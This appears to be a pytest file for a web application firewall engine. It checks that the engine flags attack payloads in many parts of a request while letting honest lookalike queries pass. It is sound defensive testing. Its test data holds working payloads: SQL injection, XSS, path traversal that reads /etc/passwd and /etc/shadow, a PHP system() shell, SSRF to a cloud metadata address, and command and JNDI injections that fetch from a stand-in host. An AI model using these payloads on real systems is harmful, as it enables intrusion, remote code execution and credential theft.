"""Attacks are found wherever they stand, and honest requests that look alike are not."""

from __future__ import annotations

import base64

import polars as pl
import pytest

from engine.waf.signals import all_signals
from engine.waf.signals.ascii import narrowed
from tests.engine.waf_traffic import request, verdicts, verdicts_by_case

ATTACKS = {
    "SQL injection": [
        "id=1%27+UNION+ALL+SELECT+name,pass+FROM+users--+-",
        "id=1+or+1=1",
        "u=admin%27--",
        "id=1;waitfor+delay+%270:0:5%27",
        "id=1%20AND%20(SELECT%201%20FROM(SELECT(SLEEP(5)))a)",
        "q=%27%29%20or%20%28%27a%27%3D%27a",
        "id=1/*!50000UnIoN*/SeLeCt+1,2",
    ],
    "cross-site scripting": [
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E",
        "u=javascript:alert(document.cookie)",
        "q=%253Csvg/onload%253Dalert(1)%253E",
        "q=window['al'%2B'ert'](1)",
        "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
    ],
    "path traversal": ["file=../../../../etc/passwd", "f=..%252f..%252f..%252fwin.ini", "f=....//....//etc/shadow"],
    "command injection": [
        "ip=127.0.0.1;cat+/etc/passwd",
        "h=x%7Cwhoami",
        "c=$(curl+http://203.0.113.9/x.sh)",
        "x=;c\\a't'${IFS}/etc/hosts",
    ],
    "Java injection": [
        "x=$%7Bjndi:ldap://203.0.113.9/a%7D",
        "x=$%7B$%7B::-j%7Dndi:rmi://x/a%7D",
        "c=java.lang.Runtime.getRuntime().exec(1)",
    ],
    "template injection": ["n=%7B%7B7*7%7D%7D", "n=$%7B7*7%7D", "n=%3C%25%3D+7*7+%25%3E"],
    "request forgery": [
        "url=http://169.254.169.254/latest/meta-data/",
        "u=gopher://127.0.0.1:6379/_x",
        "u=file:///etc/hosts",
    ],
    "NoSQL injection": ["user[$ne]=x&pass[$ne]=x", "q=%27;return+true;var+a=%27"],
    "PHP injection": ["x=%3C?php+system($_GET[0]);?%3E", "f=php://filter/convert.base64-encode/resource=index.php"],
}
HONEST = [
    "q=O%27Brien",
    "q=select+a+plan",
    "q=union+jack+mug",
    "q=drop+table+desk",
    "q=rock+%26+roll",
    "q=it%27s+%22round%22",
    "q=100%25+linen+--+white",
    "q=a+or+b",
    "q=1+%3C+2",
    "q=caf%C3%A9",
    "next=/account/orders?page=2&sort=desc",
    "redirect=https://shop.example/cart",
    "date=2026-03-02T09:00:00Z",
    "ids=60,299,31,266,251",
    "utm_source=mail&utm_campaign=spring_sale",
    "q=where+is+my+order%3F",
    "filter=%7B%22brand%22%3A%5B%22A%22%5D%2C%22max%22%3A40%7D",
    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
    "email=jane.doe%2Bshop@example.com",
    "q=alert(me)",
    "q=Tan+%28beige%29+sofa",
    "name=Jean-Luc+D%27Arc",
    "q=how+to+cat+proof+a+sofa",
]


QUERIES = [query for queries in ATTACKS.values() for query in queries]
UNION = "1' UNION SELECT password FROM users--"
PLACES = {
    "path": request(f"/item/{UNION}"),
    "referer": request(referer=f"http://shop.example/?q={UNION}"),
    "user agent": request(user_agent=UNION),
    "header": request(headers=f"Accept: */*\nX-Api-Version: {UNION}"),
    "cookie": request(headers=f"Cookie: lang=en; cart={UNION}"),
    "JSON": request(method="POST", body='{"order": {"note": "' + UNION + '"}}'),
    "XML": request(method="POST", body=f'<?xml version="1.0"?><order><note at="{UNION}"/></order>'),
    "multipart": request(
        method="POST", body=f'--b\r\nContent-Disposition: form-data; name="n"\r\n\r\n{UNION}\r\n--b--'
    ),
    "base64": request(query="id=" + base64.b64encode(UNION.encode()).decode()),
}

Verdicts = dict[str, tuple[float, str]]


@pytest.fixture(scope="module")
def told() -> Verdicts:
    """All cases of this file, judged in one run."""
    cases = {f"query {query}": [request("/search", query=query)] for query in [*QUERIES, *HONEST]}
    cases |= {f"form {query}": [request("/search", body=query, method="POST")] for query in QUERIES}
    cases |= {f"place {place}": [row] for place, row in PLACES.items()}
    return verdicts_by_case(cases)


@pytest.mark.parametrize("query", QUERIES)
def test_an_attack_is_flagged_in_the_query_and_in_a_form(query: str, told: Verdicts) -> None:
    for case in (f"query {query}", f"form {query}"):
        score, reason = told[case]
        assert score >= 0.5, reason


def test_the_reason_names_the_attack(told: Verdicts) -> None:
    for attack in ("SQL injection", "cross-site scripting", "command injection", "path traversal", "Java injection"):
        assert attack in told[f"query {ATTACKS[attack][0]}"][1]


@pytest.mark.parametrize("query", HONEST)
def test_an_honest_request_that_looks_alike_stays_quiet(query: str, told: Verdicts) -> None:
    score, reason = told[f"query {query}"]
    assert score < 0.5, reason


@pytest.mark.parametrize("place", PLACES)
def test_a_payload_is_found_wherever_it_stands(place: str, told: Verdicts) -> None:
    score, reason = told[f"place {place}"]
    assert score >= 0.5, reason
    assert "SQL injection" in reason or "code instead of a user agent" in reason


def test_neither_host_nor_path_prefix_decides() -> None:
    """The same honest request is as quiet under the folder of a well-known training ground."""
    scores = {verdicts(request(p, query="name=Jane", host=h))["203.0.113.7"][0]
              for p in ("/vulnerabilities/xss_r/", "/shop/") for h in ("10.10.3.128", "shop.example")}  # fmt: skip
    assert scores == {0.0}


def test_every_signal_compiles_and_speaks() -> None:
    """Each pattern is one the engine takes, each signal has words, a class and a floor below certainty."""
    empty = pl.Series("t", ["", "good morning"])
    for signal in all_signals():
        assert not empty.str.contains(signal.pattern).any(), signal.name
        assert signal.words
        assert signal.attack
        assert signal.zones
        assert 0.0 <= signal.sure < 1.0


def test_patterns_mean_ascii_alone() -> None:
    assert narrowed(r"\bunion[\s\w]+\d") == r"(?-u:\b)union[\t-\r a-z0-9_]+[0-9]"
    assert narrowed(r"[^\]\w]\\b") == r"[^\]a-z0-9_]\\b"
    assert pl.Series(["ÿunion a1"]).str.contains(narrowed(r"\bunion[\s\w]+\d")).item()
